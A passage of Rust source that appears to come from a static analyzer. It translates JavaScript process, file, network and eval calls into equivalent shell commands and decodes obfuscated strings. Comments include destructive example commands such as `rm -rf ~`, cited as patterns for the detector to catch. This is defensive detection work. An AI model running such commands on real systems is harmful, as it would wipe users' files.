                _ => Value::Unknown,
            },
            // `!0`, `!1`, `!""`: JavaScript's truthiness of a literal.
            Expression::UnaryExpression(unary) if unary.operator == UnaryOperator::LogicalNot => {
                match self.value(&unary.argument, depth + 1) {
                    Value::Number(number) => Value::Bool(number == 0),
                    Value::Bool(value) => Value::Bool(!value),
                    Value::Text(text) => Value::Bool(text.is_empty()),
                    Value::List(_) | Value::Object(_) => Value::Bool(false),
                    _ => Value::Unknown,
                }
            }
            Expression::ArrayExpression(array) => {
                let mut items = Vec::new();
                for element in &array.elements {
                    match element {
                        ArrayExpressionElement::SpreadElement(spread) => {
                            match self.value(&spread.argument, depth + 1) {
                                Value::List(inner) => items.extend(inner),
                                _ => items.push(Value::Unknown),
                            }
                        }
                        ArrayExpressionElement::Elision(_) => items.push(Value::Unknown),
                        element => items.push(
                            element.as_expression().map_or(Value::Unknown, |element| self.value(element, depth + 1)),
                        ),
                    }
                }
                Value::List(items)
            }
            Expression::ObjectExpression(object) => {
                let mut properties = Vec::new();
                for property in &object.properties {
                    match property {
                        ObjectPropertyKind::ObjectProperty(property) => {
                            let key = match property.computed {
                                false => property.key.static_name().map(|name| name.to_string()),
                                true => match property.key.as_expression().map(|key| self.value(key, depth + 1)) {
                                    Some(Value::Text(key)) => Some(key),
                                    _ => None,
                                },
                            };
                            // A property the reading cannot name may be any: the options are
                            // known only at run time.
                            let Some(key) = key else { return Value::Unknown };
                            properties.push((key, self.value(&property.value, depth + 1)));
                        }
                        ObjectPropertyKind::SpreadProperty(spread) => match self.value(&spread.argument, depth + 1) {
                            Value::Object(inner) => properties.extend(inner),
                            _ => properties.push((SPREAD.to_string(), Value::Unknown)),
                        },
                    }
                }
                Value::Object(properties)
            }
            Expression::Identifier(identifier) => {
                let name = identifier.name.as_str();
                match self.bound.get(name) {
                    Some(bound) if self.once(name) => bound.value.clone(),
                    _ if self.local(name) => Value::Unknown,
                    _ => match name {
                        "__dirname" => Value::Path(".".to_string()),
                        _ => Value::Unknown,
                    },
                }
            }
            Expression::BinaryExpression(binary) if binary.operator == BinaryOperator::Addition => {
                match (self.value(&binary.left, depth + 1), self.value(&binary.right, depth + 1)) {
                    (Value::Text(left), right) => Value::Text(left + &right.text()),
                    (Value::Path(left), right) => Value::Path(left + &right.text()),
                    (Value::Number(left), Value::Number(right)) => Value::Number(left.saturating_add(right)),
                    (left, Value::Text(right)) => Value::Text(left.text() + &right),
                    _ => Value::Unknown,
                }
            }
            Expression::AwaitExpression(awaited) => self.value(&awaited.argument, depth + 1),
            Expression::SequenceExpression(sequence) => {
                sequence.expressions.last().map_or(Value::Unknown, |last| self.value(last, depth + 1))
            }
            Expression::CallExpression(call) => self.call_value(call, depth),
            Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
                match self.qualified(expr, depth + 1).map(|name| canonical(&name)).as_deref() {
                    Some("process.env.HOME" | "process.env.USERPROFILE") => Value::Path("~".to_string()),
                    Some("process.execPath" | "process.argv0") => Value::Text("node".to_string()),
                    Some("path.sep") => Value::Text("/".to_string()),
                    Some("os.EOL") => Value::Text("\n".to_string()),
                    _ => self.member_value(expr, depth),
                }
            }
            _ => Value::Unknown,
        }
    }

    /// A member of a value the code spells: an object's property, an array's item.
    fn member_value(&self, expr: &Expression<'a>, depth: usize) -> Value {
        let (object, key) = match expr {
            Expression::StaticMemberExpression(member) => {
                (&member.object, Value::Text(member.property.name.as_str().to_string()))
            }
            Expression::ComputedMemberExpression(member) => (&member.object, self.value(&member.expression, depth + 1)),
            _ => return Value::Unknown,
        };
        match (self.value(object, depth + 1), key) {
            (object @ Value::Object(_), Value::Text(key)) => object.get(&key).cloned().unwrap_or(Value::Unknown),
            (Value::List(items), Value::Number(at)) => {
                usize::try_from(at).ok().and_then(|at| items.get(at)).cloned().unwrap_or(Value::Unknown)
            }
            (Value::List(items), Value::Text(key)) if key == "length" => {
                Value::Number(i64::try_from(items.len()).unwrap_or(i64::MAX))
            }
            _ => Value::Unknown,
        }
    }

    /// A template literal's text, its substitutions filled where the reading knows them.
    fn template(&self, template: &TemplateLiteral<'a>, depth: usize) -> Value {
        let mut text = String::new();
        for (at, quasi) in template.quasis.iter().enumerate() {
            text.push_str(quasi.value.cooked.as_ref().map_or(quasi.value.raw.as_str(), |cooked| cooked.as_str()));
            if let Some(expression) = template.expressions.get(at) {
                match self.value(expression, depth + 1) {
                    Value::Unknown | Value::Object(_) => text.push_str(RUN_TIME_INPUT),
                    value => text.push_str(&value.text()),
                }
            }
        }
        Value::Text(text)
    }

    /// The value a call returns, for the calls that build paths and strings.
    fn call_value(&self, call: &CallExpression<'a>, depth: usize) -> Value {
        let arg = |at: usize| {
            call.arguments
                .get(at)
                .and_then(Argument::as_expression)
                .map_or(Value::Unknown, |arg| self.value(arg, depth + 1))
        };
        let args = || -> Vec<Value> {
            call.arguments
                .iter()
                .map(|arg| arg.as_expression().map_or(Value::Unknown, |arg| self.value(arg, depth + 1)))
                .collect()
        };
        if let Some(callee) = self.qualified(&call.callee, depth + 1).map(|name| canonical(&name)) {
            match callee.as_str() {
                "os.homedir" => return Value::Path("~".to_string()),
                "Bun.file" => return Value::File(arg(0).path()),
                "os.tmpdir" => return Value::Path("/tmp".to_string()),
                "process.cwd" | "Deno.cwd" => return Value::Path(".".to_string()),
                "Deno.env.get" if arg(0) == Value::Text("HOME".to_string()) => return Value::Path("~".to_string()),
                "path.join" | "path.resolve" | "path.posix.join" | "path.posix.resolve" => return joined(&args()),
                "decodeURIComponent" | "decodeURI" | "unescape" | "querystring.unescape" => {
                    return match arg(0) {
                        Value::Text(text) => percent_decoded(&text).map_or(Value::Unknown, Value::Text),
                        _ => Value::Unknown,
                    };
                }
                "path.normalize" | "path.dirname" | "String" => {
                    return match (callee.as_str(), arg(0)) {
                        ("path.dirname", value) => {
                            value.path().map_or(Value::Unknown, |path| Value::Path(parent(&path)))
                        }
                        (_, value) => value,
                    };
                }
                "String.fromCharCode" | "String.fromCodePoint" => {
                    let mut text = String::new();
                    for value in args() {
                        match value {
                            // (`fromCharCode` keeps a code's low 16 bits.)
                            Value::Number(code) if callee == "String.fromCharCode" => {
                                match char::from_u32(u32::try_from(code & 0xFFFF).unwrap_or(0)) {
                                    Some(c) => text.push(c),
                                    None => return Value::Unknown,
                                }
                            }
                            Value::Number(code) => match u32::try_from(code).ok().and_then(char::from_u32) {
                                Some(c) => text.push(c),
                                None => return Value::Unknown,
                            },
                            _ => return Value::Unknown,
                        }
                    }
                    return Value::Text(text);
                }
                "atob" => return decoded(&arg(0), "base64"),
                "Buffer.from" => return decoded(&arg(0), &arg(1).text().to_lowercase()),
                _ => {}
            }
        }
        // A method of a value: `"rm -rf ".concat(x)`, `[…].join(" ")`, `Buffer…toString()`.
        let Some(member) = call.callee.get_inner_expression().as_member_expression() else { return Value::Unknown };
        let Some(method) = member.static_property_name() else { return Value::Unknown };
        match (self.value(member.object(), depth + 1), method) {
            (Value::Text(text), "concat") => Value::Text(args().iter().fold(text, |text, part| text + &part.text())),
            (Value::Text(text), "toString" | "valueOf") => Value::Text(text),
            // Compatibility forms fold characters (`ｒｍ` is `rm`): only ASCII text is unchanged.
            (Value::Text(text), "normalize") if text.is_ascii() => Value::Text(text),
            (Value::Text(text), "trim") => Value::Text(text.trim().to_string()),
            (Value::Text(text), "toLowerCase") => Value::Text(text.to_lowercase()),
            (Value::Text(text), "toUpperCase") => Value::Text(text.to_uppercase()),
            (Value::Text(text), "split") => match arg(0) {
                Value::Text(separator) if separator.is_empty() => {
                    Value::List(text.chars().map(|c| Value::Text(c.to_string())).collect())
                }
                Value::Text(separator) => {
                    Value::List(text.split(separator.as_str()).map(|part| Value::Text(part.to_string())).collect())
                }
                _ => Value::Unknown,
            },
            (Value::Text(text), "replace" | "replaceAll") => match (arg(0), arg(1)) {
                (Value::Text(from), Value::Text(to)) if method == "replace" => {
                    Value::Text(text.replacen(&from, &to, 1))
                }
                (Value::Text(from), Value::Text(to)) => Value::Text(text.replace(&from, &to)),
                _ => Value::Unknown,
            },
            (Value::Text(text), "repeat") => match arg(0) {
                Value::Number(count @ 0..=64) => Value::Text(text.repeat(usize::try_from(count).unwrap_or(0))),
                _ => Value::Unknown,
            },
            (Value::List(items), "join") => {
                let separator = match arg(0) {
                    Value::Unknown if call.arguments.is_empty() => ",".to_string(),
                    Value::Text(separator) => separator,
                    _ => return Value::Unknown,
                };
                Value::Text(items.iter().map(Value::text).collect::<Vec<_>>().join(&separator))
            }
            (Value::List(mut items), "reverse") => {
                items.reverse();
                Value::List(items)
            }
            (Value::List(items), "concat") => {
                let mut items = items;
                for part in args() {
                    match part {
                        Value::List(more) => items.extend(more),
                        other => items.push(other),
                    }
                }
                Value::List(items)
            }
            (Value::List(items), "slice") => match (arg(0), arg(1)) {
                (Value::Number(start), Value::Unknown) if call.arguments.len() == 1 => {
                    Value::List(items.into_iter().skip(usize::try_from(start).unwrap_or(usize::MAX)).collect())
                }
                _ => Value::Unknown,
            },
            _ => Value::Unknown,
        }
    }

    /// One call (or `new`): what it does, by the API it resolves to.
    fn call(&mut self, callee: &Expression<'a>, arguments: &[Argument<'a>]) {
        let mut values: Vec<Option<Value>> =
            arguments.iter().map(|arg| arg.as_expression().map(|arg| self.value(arg, 0))).collect();
        let mut resolved = self.qualified(callee, 0).map(|name| canonical(&name));
        // `f.call(THIS, …)`, `f.apply(THIS, [...])`, `Reflect.apply(f, THIS, [...])`: `f` with
        // those arguments.
        let reflect = matches!(resolved.as_deref(), Some("Reflect.apply" | "Reflect.construct"));
        if let Some(member) = callee.get_inner_expression().as_member_expression().filter(|_| !reflect) {
            let function = self.qualified(member.object(), 0).map(|name| canonical(&name));
            match (member.static_property_name(), &function) {
                (Some("call"), Some(_)) => {
                    resolved = function;
                    values = values.into_iter().skip(1).collect();
                }
                (Some("apply"), Some(_)) => {
                    resolved = function;
                    values = spread(values.get(1).cloned().flatten());
                }
                (Some("bind"), Some(name)) if api(name).is_some() => {
                    let reason = format!("node {name} bound to be called later");
                    return self.out.push(Run::Unread(unread::CALLEE, reason));
                }
                _ => {}
            }
        }
        if resolved.as_deref() == Some("Reflect.apply") {
            resolved = arguments
                .first()
                .and_then(Argument::as_expression)
                .and_then(|function| self.qualified(function, 0))
                .map(|name| canonical(&name));
            values = spread(values.get(2).cloned().flatten());
        }
        if resolved.as_deref() == Some("Reflect.construct") {
            resolved = arguments
                .first()
                .and_then(Argument::as_expression)
                .and_then(|function| self.qualified(function, 0))
                .map(|name| canonical(&name));
            values = spread(values.get(1).cloned().flatten());
        }
        // A spread argument (`f(...args)`) leaves every position after it unknown.
        if let Some(first_spread) = arguments.iter().position(|arg| matches!(arg, Argument::SpreadElement(_))) {
            for value in values.iter_mut().skip(first_spread) {
                *value = None;
            }
        }
        let values: Vec<Value> = values.into_iter().map(|value| value.unwrap_or(Value::Unknown)).collect();
        // `Bun.file(P).text()`, `f.delete()` with `const f = Bun.file(P)`: the handle's file.
        if let Some(member) = callee.get_inner_expression().as_member_expression() {
            let effect: Option<(&[&str], &str)> = match member.static_property_name() {
                Some("text" | "json" | "arrayBuffer" | "bytes" | "stream" | "formData" | "blob") => {
                    Some((&["cat", "--"], ""))
                }
                Some("delete" | "unlink") => Some((&["rm", "--"], "Bun.file().delete")),
                Some("write" | "writer") => Some((&["tee", "--"], "Bun.file().write")),
                _ => None,
            };
            if let Some((words, what)) = effect {
                if let Value::File(path) = self.value(member.object(), 0) {
                    return self.emit(words, &[path], what);
                }
            }
        }
        if let Some(name) = &resolved {
            // (A tag, `$`, runs its template: called, it only makes another tag.)
            if let Some(api) = api(name).filter(|api| !matches!(api, Api::Tag)) {
                return self.api(name, api, &values);
            }
            if name.starts_with("ffi-napi") || name.starts_with("Deno.dlopen") || name.starts_with("bun:ffi") {
                return self.out.push(Run::Unread(unread::CALLEE, format!("node {name}")));
            }
        }
        // `x.execSync(…)` on an object the reading cannot name, or `execSync(…)` from nowhere
        // the reading sees: the API of that name.
        let callee = callee.get_inner_expression();
        let member = callee.as_member_expression();
        let method = match callee {
            Expression::Identifier(identifier) => Some(identifier.name.as_str()),
            _ => member.and_then(MemberExpression::static_property_name),
        };
        if let Some((row, api)) = method
            .and_then(|method| DISTINCTIVE.iter().find(|(distinctive, _)| *distinctive == method))
            .and_then(|(_, row)| api(row).map(|api| (*row, api)))
        {
            return self.api(row, api, &values);
        }
        // `cp.exec("rm -rf ~")` where `cp` is a parameter, an array's item, a getter's value, a
        // `with` scope's: a member named as a process or file API is read as that API when its
        // first argument is known (a regular expression's `exec` is its own).
        if let Some((row, api)) = method.and_then(api_of_member) {
            let first_known = !matches!(values.first(), None | Some(Value::Unknown));
            let regex = member.is_some_and(|member| self.value(member.object(), 0) == Value::Regex);
            if first_known && !regex {
                return self.api(row, api, &values);
            }
        }
        // `(() => 0).constructor(CODE)`: the `Function` constructor.
        if method == Some("constructor") && member.is_some() {
            return self.code("Function", values.last().cloned().unwrap_or(Value::Unknown));
        }
        // `cp[name](…)`: a member chosen at run time, of a module the reading names.
        if let Some(member) = member.filter(|member| member.static_property_name().is_none()) {
            if let Some(module) = self.qualified(member.object(), 0).map(|name| canonical(&name)) {
                if module_reaches_system(&module) {
                    let reason = format!("node {module}[…] of a name known only at run time");
                    self.out.push(Run::Unread(unread::CALLEE, reason));
                }
            }
        }
    }

    /// What an API call does, given its arguments' values.
    fn api(&mut self, callee: &str, api: Api, args: &[Value]) {
        let get = |at: usize| args.get(at).cloned().unwrap_or(Value::Unknown);
        // The options: the last argument, where it is an object or a value known only at run
        // time after the first (`rmSync(P, opts)`); else none.
        // (A callback after them is not one.)
        let given = args.iter().rposition(|arg| *arg != Value::Function).map_or(0, |last| last + 1);
        let options = match args.get(..given).and_then(<[Value]>::last) {
            Some(object @ Value::Object(_)) => object.clone(),
            Some(Value::Unknown) if given > 1 => Value::Unknown,
            _ => Value::Object(Vec::new()),
        };
        match api {
            Api::Shell(at) => {
                let line = get(at);
                self.cwd(&options);
                match line {
                    Value::Unknown | Value::Object(_) => self.out.push(Run::Argv(vec![RUN_TIME_COMMAND.to_string()])),
                    line => {
                        // (A line reads what the code writes only when it says so, `{input}`;
                        // the line's own `<<EOF` and pipes are the shell reader's.)
                        let words: Vec<String> = line.text().split_whitespace().map(str::to_string).collect();
                        if options.get("input").is_some() {
                            self.fed(&words, &options);
                        }
                        // `{env: {…}}`: the shell runs the line with those variables.
                        match with_env(&options, vec!["sh".to_string(), "-c".to_string(), line.text()]) {
                            words if words.first().is_some_and(|first| first == "env") => {
                                self.out.push(Run::Argv(words))
                            }
                            _ => self.out.push(Run::Line(line.text())),
                        }
                    }
                }
            }
            Api::ProgramAndArgs => {
                // `new Deno.Command(PROGRAM, {args: […]})`.
                let list = match (get(1), options.get("args")) {
                    (Value::List(list), _) => Some(list),
                    (_, Some(Value::List(list))) => Some(list.clone()),
                    (Value::Object(_), None) => Some(Vec::new()),
                    (Value::Unknown, None) if args.len() <= 1 => Some(Vec::new()),
                    _ => None,
                };
                self.cwd(&options);
                let program = program_word(&get(0));
                if options.is_set("shell") {
                    let mut line = vec![program];
                    line.extend(list.unwrap_or_default().iter().map(Value::text));
                    return self.out.push(Run::Line(line.join(" ")));
                }
                let mut words = vec![program.clone()];
                match list {
                    Some(list) => words.extend(list.iter().map(Value::text)),
                    None => {
                        let reason = format!("node {callee} of arguments known only at run time");
                        self.out.push(Run::Unread(unread::CALLEE, reason));
                    }
                }
                self.fed(&words, &options);
                self.out.push(Run::Argv(with_env(&options, words)));
            }
            Api::Argv(at) => {
                // `shelljs.rm("-rf", P)`: every argument a word.
                if at == usize::MAX {
                    let mut words = vec![callee.rsplit('.').next().unwrap_or(callee).to_string()];
                    words.extend(args.iter().map(Value::text));
                    return self.out.push(Run::Argv(words));
                }
                let given = match get(at) {
                    object @ Value::Object(_) => object.get("cmd").cloned().unwrap_or(Value::Unknown),
                    other => other,
                };
                self.cwd(&options);
                match given {
                    Value::List(words) if !words.is_empty() => {
                        let words: Vec<String> = words.iter().map(Value::text).collect();
                        self.fed(&words, &options);
                        self.out.push(Run::Argv(with_env(&options, words)));
                    }
                    Value::Text(line) => self.out.push(Run::Line(line)),
                    _ => self.out.push(Run::Argv(vec![RUN_TIME_COMMAND.to_string()])),
                }
            }
            // `fork(PATH, ARGS, {execPath, execArgv})`: `EXECPATH EXECARGV… PATH ARGS…`.
            Api::Fork => {
                let program = options.get("execPath").map_or("node".to_string(), program_word);
                let mut words = vec![program];
                match options.get("execArgv") {
                    Some(Value::List(list)) => words.extend(list.iter().map(Value::text)),
                    Some(_) => words.push(RUN_TIME_INPUT.to_string()),
                    None => {}
                }
                words.push(get(0).path().unwrap_or_else(|| RUN_TIME_INPUT.to_string()));
                if let Value::List(list) = get(1) {
                    words.extend(list.iter().map(Value::text));
                }
                self.out.push(Run::Argv(words));
            }
            Api::Tag => self.out.push(Run::Line(get(0).text())),
            Api::Delete { recursive } => {
                let recursive = recursive || options.is_set("recursive");
                let words: &[&str] = if recursive { &["rm", "-r", "--"] } else { &["rm", "--"] };
                match get(0) {
                    // `del(["dist/**", "!dist/keep"])`: each pattern.
                    Value::List(paths) => {
                        let paths: Vec<Option<String>> = paths.iter().map(Value::path).collect();
                        self.emit(words, &paths, callee)
                    }
                    path => self.emit(words, &[path.path()], callee),
                }
            }
            Api::Write(at) => self.emit(&["tee", "--"], &[get(at).path()], callee),
            Api::Open => {
                // Flags: `"w"`, `"a+"`, `fs.constants.O_WRONLY`; `Deno.open(P, {write: true})`.
                let writes = match get(1) {
                    Value::Text(flags) => flags.contains(['w', 'a', '+']),
                    object @ Value::Object(_) => {
                        ["write", "append", "create", "truncate", "createNew"].iter().any(|key| object.is_set(key))
                    }
                    Value::Unknown => args.len() > 1,
                    _ => true,
                };
                match writes {
                    true => self.emit(&["tee", "--"], &[get(0).path()], callee),
                    false => self.emit(&["cat", "--"], &[get(0).path()], ""),
                }
            }
            Api::Move => self.emit(&["mv", "--"], &[get(0).path(), get(1).path()], callee),
            Api::Copy => {
                let recursive = callee == "fs.copy" || options.is_set("recursive");
                let words: &[&str] = if recursive { &["cp", "-r", "--"] } else { &["cp", "--"] };
                self.emit(words, &[get(0).path(), get(1).path()], callee)
            }
            Api::Link => self.emit(&["ln", "-s", "--"], &[get(0).path(), get(1).path()], callee),
            Api::Chmod => {
                let mode = match get(1) {
                    Value::Number(mode) => format!("{mode:o}"),
                    Value::Text(mode) if mode.chars().all(|c| c.is_digit(8)) && !mode.is_empty() => mode,
                    _ => RUN_TIME_INPUT.to_string(),
                };
                self.emit(&["chmod", mode.as_str(), "--"], &[get(0).path()], callee)
            }
            Api::Chown => self.emit(&["chown", RUN_TIME_INPUT, "--"], &[get(0).path()], callee),
            Api::Mkdir => self.emit(&["mkdir", "-p", "--"], &[get(0).path()], callee),
            Api::Read => self.emit(&["cat", "--"], &[get(0).path()], ""),
            Api::Chdir => self.emit(&["cd"], &[get(0).path()], "working directory"),
            Api::Network => {
                let target = args
                    .iter()
                    .find_map(|arg| match arg {
                        Value::Text(text) => Some(text.clone()),
                        object @ Value::Object(_) => {
                            ["url", "hostname", "host"].iter().find_map(|key| object.get(key)).map(Value::text)
                        }
                        _ => None,
                    })
                    .unwrap_or_else(|| RUN_TIME_INPUT.to_string());
                self.out.push(Run::Argv(vec!["curl".to_string(), "--".to_string(), target]));
            }
            Api::Env => self.out.push(Run::Argv(vec!["printenv".to_string(), get(0).text()])),
            Api::EnvAll => self.out.push(Run::Argv(vec!["printenv".to_string()])),
            Api::Code { last } => {
                let code = match last {
                    true => args.last().cloned().unwrap_or(Value::Text(String::new())),
                    false => get(0),
                };
                self.code(callee, code);
            }
            Api::Worker if options.is_set("eval") => self.code(callee, get(0)),
            // `new Worker(new URL("data:…"))`: the URL holds the code.
            Api::Worker if get(0).path().as_deref().and_then(data_url_code).is_some() => {
                let code = get(0).path().as_deref().and_then(data_url_code).unwrap_or(Value::Unknown);
                self.code(callee, code)
            }
            Api::Worker => {
                let words = vec!["node".to_string(), get(0).path().unwrap_or_else(|| RUN_TIME_INPUT.to_string())];
                self.out.push(Run::Argv(words));
            }
            Api::Callee => {
                if !matches!(get(0), Value::Text(_)) {
                    let reason = format!("node {callee} of a name known only at run time");
                    self.out.push(Run::Unread(unread::CALLEE, reason));
                }
            }
            Api::Opaque => self.out.push(Run::Unread(unread::CALLEE, format!("node {callee}"))),
        }
    }

    /// Literal code of the language, read where it stands; anything else unread.
    fn code(&mut self, callee: &str, code: Value) {
        match code {
            // `Function("return " + x)`: code partly known only at run time.
            Value::Text(code) if code.contains(RUN_TIME_INPUT) => {
                let reason = format!("node {callee} of code known only at run time");
                self.out.push(Run::Unread(unread::CALLEE, reason));
            }
            Value::Text(code) if self.depth < MAX_EVAL => self.out.extend(runs_at(&code, self.depth + 1)),
            Value::Text(_) => {
                let reason = format!("node {callee} nested more than {MAX_EVAL} deep");
                self.out.push(Run::Unread(unread::BOUND, reason));
            }
            _ => {
                let reason = format!("node {callee} of a value known only at run time");
                self.out.push(Run::Unread(unread::CALLEE, reason));
            }
        }
    }

    /// `{cwd: DIR}`: the command runs there (`cd DIR` first, as a shell line reads it); in
    /// options the reading cannot see whole, somewhere known only at run time.
    fn cwd(&mut self, options: &Value) {
        match options.get("cwd") {
            Some(dir) => self.emit(&["cd"], &[dir.path()], "working directory"),
            None if options.partial() => self.emit(&["cd"], &[None], "working directory"),
            None => {}
        }
    }

    /// A shell or interpreter given no script on its command line reads one from its input,
    /// which the code writes (`spawn("bash")`, `spawn("sh", ["-s"])`, `execSync("sh", {input:
    /// "…"})`; a spawned program's input is a pipe unless the code says otherwise): unread.
    fn fed(&mut self, words: &[String], options: &Value) {
        let Some((program, args)) = words.split_first() else { return };
        let program = super::program_name(program);
        if reads_script_from_input(&program, args) || options.get("input").is_some() && super::runs_scripts(&program) {
            let reason = format!("node writes a script to {program}'s input");
            self.out.push(Run::Unread(unread::DESCRIPTOR, reason));
        }
    }

    /// A command of `words` then one operand per target; a target known only at run time is
    /// that, and, for an API that changes files (`what` non-empty), a reason.
    fn emit(&mut self, words: &[&str], targets: &[Option<String>], what: &str) {
        let mut argv: Vec<String> = words.iter().map(|word| (*word).to_string()).collect();
        for target in targets {
            match target {
                Some(target) => argv.push(target.clone()),
                None => {
                    argv.push(RUN_TIME_INPUT.to_string());
                    if !what.is_empty() {
                        let reason = format!("node {what} of a path known only at run time");
                        self.out.push(Run::Unread(unread::TARGET, reason));
                    }
                }
            }
        }
        self.out.push(Run::Argv(argv));
    }

    /// Binds a declarator's names as the reading meets it, when they are bound once.
    fn declare(&mut self, declarator: &VariableDeclarator<'a>) {
        let Some(init) = &declarator.init else { return };
        let (qualified, value) = (self.qualified(init, 0), self.value(init, 0));
        self.bind_pattern(&declarator.id, qualified, value);
    }

    /// Binds a pattern's names to what `qualified` and `value` hold: `const {execSync: run,
    /// spawn} = require("child_process")`, nested (`{a: {exec}}`) and with defaults (`{exec:
    /// run = f}`: the property, which the default stands in for only when it is missing).
    fn bind_pattern(&mut self, pattern: &BindingPattern<'a>, qualified: Option<String>, value: Value) {
        match pattern {
            BindingPattern::BindingIdentifier(identifier) => {
                self.bound.insert(identifier.name.as_str(), Bound { qualified, value });
            }
            BindingPattern::AssignmentPattern(assignment) => self.bind_pattern(&assignment.left, qualified, value),
            BindingPattern::ObjectPattern(object) => {
                for property in &object.properties {
                    let key = match property.computed {
                        false => property.key.static_name().map(|name| name.to_string()),
                        true => match property.key.as_expression().map(|key| self.value(key, 0)) {
                            Some(Value::Text(key)) => Some(key),
                            _ => None,
                        },
                    };
                    let Some(key) = key else { continue };
                    let inner = qualified.as_ref().map(|base| format!("{base}.{key}"));
                    let inner_value = value.get(&key).cloned().unwrap_or(Value::Unknown);
                    self.bind_pattern(&property.value, inner, inner_value);
                }
            }
            BindingPattern::ArrayPattern(_) => {}
        }
    }

    /// The API an expression names ([`api_named_of`]): `cp.execSync`, `run` from `const
    /// {execSync: run} = …`.
    fn api_named(&self, expr: &Expression<'a>) -> Option<String> {
        api_named_of(&canonical(&self.qualified(expr, 0)?))
    }
}

/// A `data:` URL's code (`data:text/javascript,CODE`, percent-encoded or base64): the code,
/// or a value known only at run time where it does not decode; `None` for any other URL.
fn data_url_code(url: &str) -> Option<Value> {
    let rest = url.strip_prefix("data:")?;
    let (header, body) = rest.split_once(',').unwrap_or((rest, ""));
    Some(match header.ends_with(";base64") {
        true => decoded(&Value::Text(body.to_string()), "base64"),
        false => percent_decoded(body).map_or(Value::Unknown, Value::Text),
    })
}

/// Whether `program` with `args` reads its script from its input: an interpreter given no code
/// or script file, a shell given no `-c` and no script file (`sh`, `bash -s`).
fn reads_script_from_input(program: &str, args: &[String]) -> bool {
    // (An interpreter asked only for its version or help reads nothing: only no arguments, or
    // `-` and `/dev/stdin`, are its input.)
    if super::interpreters::is_interpreter(program) {
        let stdin = args.is_empty() || args.iter().any(|arg| super::wrappers::names_stdin(arg));
        return stdin && super::interpreters::code_of(program, args) == Some(super::interpreters::Code::Stdin);
    }
    super::runs_scripts(program)
        && !args.iter().any(|arg| match arg.strip_prefix('-') {
            Some(options) => !options.starts_with('-') && options.contains('c'),
            None => true,
        })
}

/// The process or file API a member name names, for a receiver the reading cannot name: the
/// row whose last name it is (`exec`: `child_process.exec`; `rmSync`: `fs.rm`). Names too
/// common to mean one API (`write`, `open`, `get`, `sync`, …) name none.
fn api_of_member(method: &str) -> Option<(&'static str, Api)> {
    const GENERIC: &[&str] = &["write", "open", "get", "request", "connect", "sync", "native", "manual", "run", "$"];
    static BY_MEMBER: std::sync::OnceLock<FxHashMap<&'static str, (&'static str, Api)>> = std::sync::OnceLock::new();
    let by_member = BY_MEMBER.get_or_init(|| {
        let mut map = FxHashMap::default();
        for (row, api) in APIS {
            let reads = matches!(
                api,
                Api::Network
                    | Api::Read
                    | Api::Env
                    | Api::EnvAll
                    | Api::Code { .. }
                    | Api::Callee
                    | Api::Opaque
                    | Api::Tag
            );
            let member = row.rsplit('.').next().unwrap_or(row);
            if !reads && !GENERIC.contains(&member) {
                map.entry(member).or_insert((*row, *api));
            }
        }
        map
    });
    by_member.get(method).or_else(|| method.strip_suffix("Sync").and_then(|name| by_member.get(name))).copied()
}

/// The API a canonical name names, where it reaches the system (`child_process.execSync`); a
/// bare global (`fetch`, `require`) is not one here, since its name is also every call of it,
/// but `eval` and `Function` handed on (`.then(eval)`) are code run unread.
fn api_named_of(name: &str) -> Option<String> {
    let reaches = api(name).is_some_and(|api| !matches!(api, Api::Callee | Api::Env | Api::EnvAll));
    let code = matches!(name, "eval" | "Function");
    ((name.contains('.') && reaches) || code).then(|| name.to_string())
}

/// The module a canonical name is, where its members reach the system (`child_process`).
fn module_of(name: &str) -> Option<String> {
    let module = !name.contains('.') && !GLOBAL_OBJECTS.contains(&name) && name != "process";
    (module && module_reaches_system(name) && api(name).is_none()).then(|| name.to_string())
}

/// Whether a module's members reach the system, so that one chosen at run time is unread.
fn module_reaches_system(module: &str) -> bool {
    static MODULES: std::sync::OnceLock<FxHashSet<&'static str>> = std::sync::OnceLock::new();
    let modules = MODULES.get_or_init(|| {
        let mut modules: FxHashSet<&'static str> =
            ["process", "globalThis", "global", "window", "self", "Bun", "Deno"].into_iter().collect();
        for (name, api) in APIS {
            if let Some((module, _)) = name.rsplit_once('.') {
                if !matches!(api, Api::Network | Api::Read | Api::Env | Api::EnvAll) {
                    modules.insert(module);
                }
            }
        }
        modules
    });
    modules.contains(module)
}

/// The arguments an array holds (`f.apply(THIS, [A, B])`).
fn spread(list: Option<Value>) -> Vec<Option<Value>> {
    match list {
        Some(Value::List(items)) => items.into_iter().map(Some).collect(),
        _ => vec![None],
    }
}

/// `{env: {K: V}}`: the variables the command runs with, as `env K=V …`.
fn with_env(options: &Value, words: Vec<String>) -> Vec<String> {
    match options.get("env") {
        Some(Value::Object(variables)) => {
            let mut assignments = vec!["env".to_string()];
            assignments.extend(
                variables.iter().filter(|(key, _)| key != SPREAD).map(|(key, value)| format!("{key}={}", value.text())),
            );
            [assignments, words].concat()
        }
        _ => words,
    }
}

/// The program a word names: its text, or a program known only at run time.
fn program_word(value: &Value) -> String {
    match value {
        Value::Text(text) | Value::Path(text) => text.clone(),
        _ => RUN_TIME_COMMAND.to_string(),
    }
}

/// Parts joined into a path, as `path.join` and `path.resolve` join them (an absolute part
/// replaces what came before).
fn joined(parts: &[Value]) -> Value {
    let mut path: Option<String> = None;
    for part in parts {
        let text = match part {
            Value::Text(text) | Value::Path(text) => text.clone(),
            _ => RUN_TIME_INPUT.to_string(),
        };
        path =
            Some(match (path, text.starts_with('/') || matches!(part, Value::Path(home) if home.starts_with('~'))) {
                (_, true) | (None, _) => text,
                (Some(base), false) => format!("{}/{text}", base.trim_end_matches('/')),
            });
    }
    match (path, parts.first()) {
        (Some(path), Some(Value::Path(_))) => Value::Path(path),
        (Some(path), _) => Value::Path(literal_path(&path)),
        (None, _) => Value::Path(".".to_string()),
    }
}

/// `path`'s directory, as `path.dirname` gives it.
fn parent(path: &str) -> String {
    match path.trim_end_matches('/').rsplit_once('/') {
        Some(("", _)) => "/".to_string(),
        Some((dir, _)) => dir.to_string(),
        None => ".".to_string(),
    }
}

/// `%XX` escapes decoded, as `decodeURIComponent` decodes them; `None` where they are not UTF-8.
pub(crate) fn percent_decoded(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        if byte == b'%' {
            let pair = text.get(at + 1..at + 3)?;
            out.push(u8::from_str_radix(pair, 16).ok()?);
            at += 3;
        } else {
            out.push(byte);
            at += 1;
        }
    }
    String::from_utf8(out).ok()
}

